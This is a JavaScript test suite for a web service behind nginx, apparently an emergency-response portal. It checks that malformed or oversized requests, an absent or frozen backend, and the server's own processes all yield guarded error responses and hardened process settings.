// --- what nginx says by itself ---------------------------------------------------------------

const answer_of = text => {
	const [head] = text.split('\r\n\r\n');
	return { headers: new Headers(head.split('\r\n').slice(1).map(l => [l.slice(0, l.indexOf(':')), l.slice(l.indexOf(':') + 1).trim()])), head };
};

test('every error of nginx carries the headers', async ({ site }) => {
	const cases = [
		[400, 'GET / HTTP/1.1\r\n\r\n'],
		[400, 'GET / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n'],
		[400, `GET / HTTP/1.1\r\nHost: x\r\nX: ${'a'.repeat(9000)}\r\n\r\n`],
		[404, 'GET /static/nope HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
		[405, 'POST /static/siaga.css HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n'],
		[405, 'TRACE / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
		[413, 'POST /lacak HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\nConnection: close\r\n\r\n'],
		[414, `GET /${'a'.repeat(9000)} HTTP/1.1\r\nHost: x\r\n\r\n`],
	];
	for (const [want, text] of cases) {
		const got = await raw(site, text), what = `${want}: ${text.slice(0, 40)}`;
		assert.equal(status(got), want, what);
		guarded(answer_of(got), what);
	}
});

test('a program that is gone is 502, and one that hangs 504, with the headers', async ({ site }) => {
	const socket = join(site.env.RUN, 'command.sock');
	renameSync(socket, `${socket}.gone`);
	try {
		const gone = await client(site).get('/komando');
		assert.equal(gone.status, 502);
		assert.equal(gone.headers.get('retry-after'), '5');
		guarded(gone, '502');
		assert.match(gone.body_text, /tel:112/);
	} finally {
		renameSync(`${socket}.gone`, socket);
	}
	const pids = processes(site, 'command');
	assert.ok(pids.length >= 2);
	for (const pid of pids)
		process.kill(pid, 'SIGSTOP');
	try {
		const slow = await client(site).get('/komando');
		assert.equal(slow.status, 504);
		guarded(slow, '504');
		assert.match(slow.body_text, /tel:112/);
	} finally {
		for (const pid of pids)
			process.kill(pid, 'SIGCONT');
	}
	await until('it answers again', async () => (await client(site).get('/komando')).status === 303);
});

test('what runs has no new rights, and no core', async ({ site }) => {
	for (const program of ['portal', 'intake', 'worklist', 'command', 'admin', 'worker']) {
		const pids = processes(site, program);
		assert.ok(pids.length > 0, program);
		for (const pid of pids) {
			assert.match(readFileSync(`/proc/${pid}/status`, 'utf8'), /NoNewPrivs:\s*1/, program);
			assert.match(readFileSync(`/proc/${pid}/limits`, 'utf8'), /Max core file size +0 +0/, program);
		}
	}
});
